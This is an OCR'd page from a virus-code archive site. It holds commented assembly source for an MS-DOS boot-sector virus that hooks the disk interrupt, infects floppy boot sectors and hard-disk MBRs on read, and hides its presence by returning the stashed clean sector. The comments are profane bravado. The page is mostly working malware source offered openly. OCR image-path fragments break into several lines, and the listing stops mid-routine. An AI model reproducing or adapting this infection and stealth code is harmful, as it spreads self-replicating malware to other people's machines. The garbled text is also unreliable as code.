VX Heaven

Library Collection Sources Engines Constructors Simulators Utilities Links Forum

Source code of computer viruses


Virus for MS-DOS

Show all viruses by this author

Description and download


[Turn off syntax highlighting]
        radix   16
fat_copies      equ     B[bx+010]       ;We use this info to
dir_entries     equ     W[bx+011]       ;calculate what sector
fat_sectors     equ     W[bx+016]       ;to store the clean
track_sectors   equ     W[bx+018]       ;boot sector in.
first_b         equ     09c             ;1st byte of the virus (pushf)
length          equ     offset vend - offset vstart
        org     0                       ;this is just to show the virus
                                        ;starts at 03e.. it will place a jmp
        jmp     short   vstart          ;in the BS/MBR to 3e...
        org     03e                     ;virus starts at 0:7c3e
vstart: pushf                           ;push flags for simulated int13 call
                                        ;later on..
        xor     di,di                   ;di=0, copying to start of hiseg l8r.
        mov     ds,di                   ;ds=cs=0
        mov     si,413                  ;0:413 == amount of conventional RAM
        dec     W[si]                   ;(in KBs)lodsw                           ;Allocate 1K
        shl     ax,6                    ;Get Hi Segment
        mov     si,7c00                 ;copying from 7c00
        push    ds                      ;return to 0:7c00
        push    si                      ;^^^^^^^^^^^^^^^^
        push    ds                      ;load orig sector to 0:7c00
        push    si                      ;^^^
        mov     cx,offsetint_13_off    ;this is the offset of the i13handler
        push    cx                      ;for later use..
        mov     es,ax                   ;Move to HiSegm moving approx 256
        rep     movsw                   ;bytes from 0:7c00 to hiseg:0
        push    ax                      ;AX = Hi Segment
        push    offset entry
        retf                            ;Jump to Hi Seg
entry:  mov     si,4c                   ;offset of int13 vector
        pop     di                      ;offset to save int13 vector
        movsw                                   ;save offset
        mov     W[si-2],offset int_13_handler   ;set offset
        movsw                                   ;save segment
        mov     W[si-2],ax                      ;set segment
        pop     bx
        pop     es
        mov     ax,0201                  ;load orig sector.. i used to have a
                                         ;much shorter INT 19 here, but some
        inc     cx                       ;int19s reset the int 13 handler!
        jmp     short  int_13_handler    ;stack = PushedFlags, 0, 7c00
                                         ;so this is just like an int13
                                         ;called from 0:7c00 to read the BS
                                         ;but because of stealth the clean
                                         ;sector is loaded.
                                         ;  ___
       db      '[2]SpLr'          ;_(TO FuCKEDuP)_
                                         ;  ~~~
        cmp     ah,2
        jnz     no_infect               ;read?
        dec     cx
        jnz     fix_cx                  ;sector 1, track 0?
        or      dh,dh                   ;head 0?
        jz      read                    ;if so then its a read of the BS/MBR!
fix_cx: inc     cx
no_infect:                              ;nah, fuck it
        jmp     0FADE:0DEAD             ;FADE +DEAD = FADED?
        org$-4
int_13_off      dw      0BABE           ;its not worth commenting
int_13_seg      dw      0DEAF           ;so just remember to H8 Your NMEs...
i13:    pushf                           ;calls clean int13
        call    cs:D[int_13_off]        ;some virii use a normal INT 13ret                             ;with a specialvalue, like AH=FE
                                        ;which the viruses handler turns in
                                        ;to AH=02, and then passes it on..
                                        ;this can be shorter, but hangs on
                                        ;some systems, because the BIOSes
                                        ;handler also calls itself, and the
                                        ;system hangs.. it does on mine!
read:   inc     cxpopf                            ;restore CX and Flags
        call    i13                     ;do the real thing and save results.
        pushf                           ;im not a fugitive on the run
        pusha                           ;but a brother like me..
        push    es                      ;we going to be another one.
        mov     ax,0201                 ;redirect read from BS/MBR
        cmp     es:B[bx+3e],first_b     ;infected?jnz     no_stealth              ;no so infect it
        call    get_last_sect           ;to sector containing clean sector..
        jmp     short i13_exit
no_stealth:                             ;disk is not infected so no need to
        mov     es,cs                   ;stealth it.... INFECT!!
        mov     bx,200                  ;load bs/MBR to es:200
        call    i13
        mov     ax,0301
        pusha                           ;save bs/MBR to safe last dir sector
        call    get_last_sect           ;get sector to store original in..
        call    i13                     ;save it..
        popa                            ;ax=0301, dx=00## (dl=drive)
        mov     cs:W[bx],3ceb           ;start new sector with JMP
        mov     cx,length               ;to virus (JMP 3e)
        mov     si,3e                   ;copy virus into origsector
        mov     di,23e                  ;at offset 3e
        rep     cs:movsb
        inc     cx                      ;cx=1. side 0,sector 1.
        call    i13                     ;this either writes the infected;boot sector, or loads the clean
                                        ;one for stealthing.. depends where
                                        ;it branches from..
        pop     es                      ;i got a letter from the government
        popa                            ;the other day, opened and read it..
        popf                            ;it said they were suckers
        retf    2                       ;iret without popping flags
get_last_sect:                          ;gets sector to store boot code in..
        xchg    cx,ax                   ;save cx
        inc     ax                      ;harddisk.. sector 2, track 0
        cmp     dl,80                   ;hard disk?
        jae     exit_gls
                                        ;get last root dir sector of floppy
        mov     ax,es:fat_sectors       ;root dir starts at sector #
        mul     es:fat_copies           ;#=fat_sectors * fat_copies
        inc     ax                      ;#+=1 (add one for the boot sector)
                                        ;this works out how manysectors
        mov     si,es:dir_entries       ;in the actual directory (ds):shr     si,4                    ;ds*=64 (512/32)
                                        ;(32 bytes in an entry, 512 bytes
                                        ;in a sector)..
        add     ax,si                   ;#+=ds
        sub     ax,es:track_sectors     ;ds-=sectors on a track (starts on
                                        ;track 2)
        movdh,1                    ;head 1 always..
        xchg    cx,ax                   ;CX=side#,sector# AX=saved_ax
By accessing, viewing, downloading or otherwise using this content you agree to be bound by the Terms of Use! aka